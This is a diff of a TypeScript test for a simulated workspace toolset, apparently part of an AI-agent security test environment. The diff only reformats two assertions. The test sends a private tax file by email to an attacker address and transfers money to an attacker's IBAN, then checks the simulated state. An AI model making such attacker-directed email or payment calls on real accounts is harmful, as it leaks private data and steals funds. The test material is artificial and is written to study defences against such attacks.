@@ -39,9 +39,16 @@ describe('workspace tools', () => {
   it('writes change the state: mail, events, files, money, contacts', async () => {
     const { env, call } = workspace();
     const state: WorkspaceState = env.state;
-    expect((await call('send_email', { to: [ATTACKER.email], subject: 's', body: 'b', attachments: ['/private/tax-2025.txt'] })).data).toEqual({ id: 'email_100', status: 'sent' });
+    expect((await call('send_email', { to: [ATTACKER.email], subject: 's', body: 'b', attachments: ['/private/tax-2025.txt'] })).data).toEqual({
+      id: 'email_100',
+      status: 'sent',
+    });
     expect(state.emails.at(-1)).toMatchObject({ folder: 'sent', from: OWNER.email, to: [ATTACKER.email], attachments: ['/private/tax-2025.txt'] });
-    expect((await call('send_money', { iban: ' gb29 nwbk 6016 1331 9268 19 ', amount: 500, reference: 'Refund' })).data).toEqual({ id: 'tx_101', status: 'sent', balance: 3700 });
+    expect((await call('send_money', { iban: ' gb29 nwbk 6016 1331 9268 19 ', amount: 500, reference: 'Refund' })).data).toEqual({
+      id: 'tx_101',
+      status: 'sent',
+      balance: 3700,
+    });
     expect(state.bank.transactions.at(-1)).toMatchObject({ iban: ATTACKER.iban, amount: -500, counterparty: 'Unknown' });
     expect(await call('send_money', { iban: IBANS.landlord, amount: 99999, reference: 'x' })).toMatchObject({ isError: true });
     await call('create_event', { title: 'x', start: '2026-12-08T09:00', end: '2026-12-08T09:30', participants: [ATTACKER.email] });
